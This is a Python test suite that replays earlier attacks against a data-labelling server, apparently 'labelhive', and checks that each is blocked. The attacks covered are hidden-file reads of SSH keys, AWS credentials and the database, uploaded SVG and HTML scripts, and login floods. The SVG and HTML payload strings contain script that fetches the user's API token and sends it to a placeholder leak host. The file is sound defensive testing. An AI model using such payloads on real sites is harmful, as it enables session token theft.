"""The attacks of issue 14, replayed against `labelhive start` with default settings (its home directory as the
local files root, its data in ~/.local/share/labelhive), each refused with nothing read or run."""
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from browser import CHROMIUM, CHROMIUM_ARGS, STATIC_INDEX
from server import PASSWORD, USERNAME, live_server


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = s3cr3t\n")
    (home / "data" / "flowers").mkdir(parents=True)
    (home / "data" / "flowers" / "rose.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    return home


@pytest.fixture(scope="module")
def server(home):
    data_dir = home / ".local" / "share" / "labelhive"  # where `labelhive start` keeps it without --data-dir
    with live_server(data_dir, extra_env={"HOME": str(home)}) as srv:
        yield srv


class Listener:
    """A loopback HTTP server that counts the requests it gets: the place a leaked token would be sent."""

    def __init__(self):
        self.requests: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                listener.requests.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()


def form(client: httpx.Client, path: str, **fields) -> httpx.Response:
    page = client.get(path)
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
    fields["csrfmiddlewaretoken"] = csrf.group(1) if csrf else client.cookies.get("csrftoken", "")
    return client.post(path, data=fields)


def member(server, email: str) -> httpx.Client:
    """A member who joined through the invite link: someone with an account, the worst case short of the owner."""
    invite = httpx.get(f"{server.url}/api/invite", headers=server.headers).json()
    client = httpx.Client(base_url=server.url)
    assert form(client, invite["invite_url"], email=email, password="member-password").status_code == 302
    token = client.get("/api/current-user/token").json()["token"]
    client.headers["Authorization"] = f"Token {token}"
    return client


def test_a_stranger_cannot_sign_up_and_a_member_cannot_read_the_database_or_keys(server, home):
    with httpx.Client(base_url=server.url) as stranger:
        r = form(stranger, "/user/signup", email="stranger@example.com", password="stranger-password")
        assert r.status_code == 403 and "invite link" in r.text
        assert stranger.get("/api/current-user/whoami").status_code == 401
    api = member(server, "insider@example.com")
    # Joined through the link, an Annotator: no projects, no folders.
    assert api.post("/api/projects", json={"title": "grab"}).status_code == 403
    pid = httpx.post(f"{server.url}/api/projects", json={"title": "grab"}, headers=server.headers).json()["id"]
    assert api.post("/api/storages/localfiles", json={"project": pid, "path": str(home)}).status_code == 403
    # Promoted to Administrator (who attaches folders), still nothing hidden.
    me = api.get("/api/current-user/whoami").json()
    httpx.patch(f"{server.url}/api/organizations/{me['active_organization']}/memberships",
                json={"user_id": me["id"], "role": "AD"}, headers=server.headers).raise_for_status()
    data_dir = home / ".local" / "share" / "labelhive"
    for path in (data_dir, home / ".ssh", home / ".aws", home / ".local"):
        r = api.post("/api/storages/localfiles", json={"project": pid, "path": str(path)})
        assert r.status_code == 400, path
        assert "hidden" in r.json()["validation_errors"]["path"][0]
    # The home directory itself attaches (a folder under the root needs no setting), but only its visible files
    # become tasks and nothing hidden is served.
    r = api.post("/api/storages/localfiles", json={"project": pid, "path": str(home), "use_blob_urls": True})
    assert r.status_code == 201, r.text
    synced = api.post(f"/api/storages/localfiles/{r.json()['id']}/sync").json()
    assert synced["last_sync_count"] == 1
    tasks = api.get("/api/tasks", params={"project": pid}).json()["tasks"]
    assert [next(iter(t["data"].values())) for t in tasks] == ["/data/local-files/?d=data/flowers/rose.png"]
    assert api.get("/data/local-files/", params={"d": "data/flowers/rose.png"}).status_code == 200
    for d in (".local/share/labelhive/labelhive.sqlite3", ".local/share/labelhive/labelhive.sqlite3-wal",
              ".local/share/labelhive/secret_key", ".ssh/id_ed25519", ".aws/credentials"):
        r = api.get("/data/local-files/", params={"d": d})
        assert r.status_code == 403, d
        assert "hidden" in r.json()["detail"]
        assert b"PRIVATE KEY" not in r.content and b"SQLite" not in r.content


SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="red"/>
<script>fetch('/api/current-user/token').then(r => r.text()).then(t => fetch('LEAK/svg?' + encodeURIComponent(t)))
</script></svg>"""
HTML = """<html><body>hello<script>
fetch('/api/current-user/token').then(r => r.text()).then(t => fetch('LEAK/html?' + encodeURIComponent(t)))
</script></body></html>"""


def test_uploaded_svg_and_html_do_not_run_in_our_origin(server, home):
    sync_api = pytest.importorskip("playwright.sync_api")
    if not CHROMIUM.exists() or not STATIC_INDEX.exists():
        pytest.skip("needs /usr/bin/chromium and the built web app")
    leak = Listener()
    api = httpx.Client(base_url=server.url, headers=server.headers)
    pid = api.post("/api/projects", json={"title": "uploads", "label_config":
                   '<View><Image name="i" value="$image"/><Choices name="c" toName="i">'
                   '<Choice value="a"/></Choices></View>'}).json()["id"]
    r = api.post(f"/api/projects/{pid}/import",
                 files=[("file", ("evil.svg", SVG.replace("LEAK", leak.url).encode(), "image/svg+xml"))])
    assert r.status_code == 201, r.text
    (task,) = api.get("/api/tasks", params={"project": pid}).json()["tasks"]
    svg_url = task["data"]["image"]
    assert svg_url.startswith("/data/upload/")
    html_path = f"{svg_url.rsplit('/', 1)[0]}/evil.html"
    # However an .html file lands among the uploads, it is served the same way: put one there.
    uploads = home / ".local" / "share" / "labelhive" / "media" / "upload" / str(pid)
    (uploads / "evil.html").write_text(HTML.replace("LEAK", leak.url))

    for url, kind in ((svg_url, "image/svg+xml"), (html_path, "text/html")):
        r = api.get(url)
        assert r.headers["content-type"].startswith(kind)
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["content-security-policy"].startswith("sandbox")
        assert r.headers["content-disposition"] == "attachment"

    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context(base_url=server.url, accept_downloads=True)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.goto("/user/login")
        page.fill("#email", USERNAME)
        page.fill("#password", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_url("**/projects")
        for url in (svg_url, html_path):  # opened as a victim would, by following a link: a download, not a page
            with page.expect_download() as download:
                page.evaluate("url => { const a = document.createElement('a'); a.href = url; "
                              "document.body.append(a); a.click(); }", url)
            assert download.value.suggested_filename.endswith(("evil.svg", "evil.html"))
        # The editor still shows the SVG as a picture.
        width = page.evaluate("""url => new Promise(done => { const img = new Image();
            img.onload = () => done(img.naturalWidth); img.onerror = () => done(-1); img.src = url; })""", svg_url)
        assert width == 40
        # Even framed, the sandbox keeps its script from our origin.
        page.evaluate("url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
                      svg_url)
        page.wait_for_timeout(1500)
        browser.close()
    assert leak.requests == []
    leak.httpd.shutdown()


def test_app_pages_carry_a_strict_policy(server):
    r = httpx.get(f"{server.url}/user/login")
    policy = r.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'self'" in policy
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "same-origin"
    if STATIC_INDEX.exists():
        app_page = httpx.get(f"{server.url}/projects")
        assert app_page.headers["content-security-policy"] == policy


def test_a_login_flood_gets_429(server):
    with httpx.Client(base_url=server.url) as client:
        statuses = [form(client, "/user/login", email=USERNAME, password=f"guess-{i}").status_code for i in range(12)]
    assert statuses[0] == 400 and 429 in statuses


def test_the_seed_flow_still_works_with_default_settings(tmp_path):
    """make run's way: no account yet; the first user signs up, attaches a folder under the home directory,
    labels, and connects a model server on localhost."""
    from protocol_backend import ProtocolBackend

    home = tmp_path / "home"
    (home / "data" / "flowers" / "train").mkdir(parents=True)
    for name in ("daisy.png", "rose.png"):
        (home / "data" / "flowers" / "train" / name).write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    backend = ProtocolBackend()
    with live_server(tmp_path / "data", extra_env={"HOME": str(home)}, first_user=False) as server, \
            httpx.Client(base_url=server.url) as browser:
        assert form(browser, "/user/signup", email="me@example.com", password="daisy-rose").status_code == 302
        api = httpx.Client(base_url=server.url, headers={
            "Authorization": f"Token {browser.get('/api/current-user/token').json()['token']}"})
        config = ('<View><Image name="image" value="$image"/><Choices name="class" toName="image">'
                  '<Choice value="daisy"/><Choice value="rose"/></Choices></View>')
        pid = api.post("/api/projects", json={"title": "Flowers", "label_config": config}).json()["id"]
        storage = api.post("/api/storages/localfiles", json={
            "project": pid, "path": str(home / "data" / "flowers" / "train"), "use_blob_urls": True})
        assert storage.status_code == 201, storage.text
        assert api.post(f"/api/storages/localfiles/{storage.json()['id']}/sync").json()["last_sync_count"] == 2
        task = api.get("/api/tasks", params={"project": pid}).json()["tasks"][0]
        assert api.get(task["data"]["image"]).status_code == 200
        r = api.post(f"/api/tasks/{task['id']}/annotations", json={"result": [
            {"from_name": "class", "to_name": "image", "type": "choices", "value": {"choices": ["daisy"]}}]})
        assert r.status_code == 201
        localhost_url = backend.url.replace("127.0.0.1", "localhost")
        r = api.post("/api/ml", json={"project": pid, "url": localhost_url, "title": "my model"})
        assert r.status_code == 201, r.text
    backend.close()
